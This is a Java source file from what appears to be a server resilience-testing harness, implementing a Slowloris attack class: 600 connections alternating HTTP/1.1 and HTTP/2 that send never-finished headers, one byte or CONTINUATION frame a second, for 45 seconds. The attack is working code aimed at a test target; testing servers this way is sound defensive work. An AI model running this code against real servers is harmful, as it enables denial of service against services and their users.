package dev.stint.bench.attack;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** Slowloris: heads of HTTP/1.1 and HTTP/2 that get a byte now and then, and never end. */
final class SlowHeads implements Attack {
  private static final int CONNECTIONS = 600;
  private static final int SECONDS = 45;

  @Override
  public String name() {
    return "slowloris";
  }

  @Override
  public String description() {
    return "600 heads (HTTP/1.1 and HTTP/2) that get a byte a second, for 45 s";
  }

  @Override
  public String run(Scene scene) throws Exception {
    Answers answers = new Answers();
    List<RawConnection> open = new ArrayList<>();
    List<Boolean> http2 = new ArrayList<>();
    for (int i = 0; i < CONNECTIONS; i++) {
      try {
        RawConnection connection = scene.hold(begun(scene, i % 2 == 1));
        open.add(connection);
        http2.add(i % 2 == 1);
      } catch (IOException refused) {
        answers.add("refused at once");
      }
    }
    for (int second = 0; second < SECONDS; second++) {
      for (int i = open.size() - 1; i >= 0; i--) {
        if (!feed(open.get(i), http2.get(i))) {
          open.remove(i);
          http2.remove(i);
          answers.add("cut off");
        }
      }
      Thread.sleep(1_000);
    }
    return answers + "; open at the end: " + open.size();
  }

  private static RawConnection begun(Scene scene, boolean http2) throws IOException {
    if (!http2) {
      return scene
          .target()
          .connect("http/1.1", 5_000)
          .send("GET /version HTTP/1.1\r\nHost: localhost\r\nX: ");
    }
    byte[] head = Http2Frames.head("GET", "/version", "");
    return scene
        .target()
        .connect("h2", 5_000)
        .send(Http2Frames.preface())
        .send(Http2Frames.frame(Http2Frames.HEADERS, Http2Frames.END_STREAM, 1, head));
  }

  private static boolean feed(RawConnection connection, boolean http2) {
    try {
      byte[] header = {0, 1, 'x', 1, 'y'};
      connection.send(
          http2 ? Http2Frames.frame(Http2Frames.CONTINUATION, 0, 1, header) : new byte[] {'x'});
      return true;
    } catch (IOException closed) {
      return false;
    }
  }
}
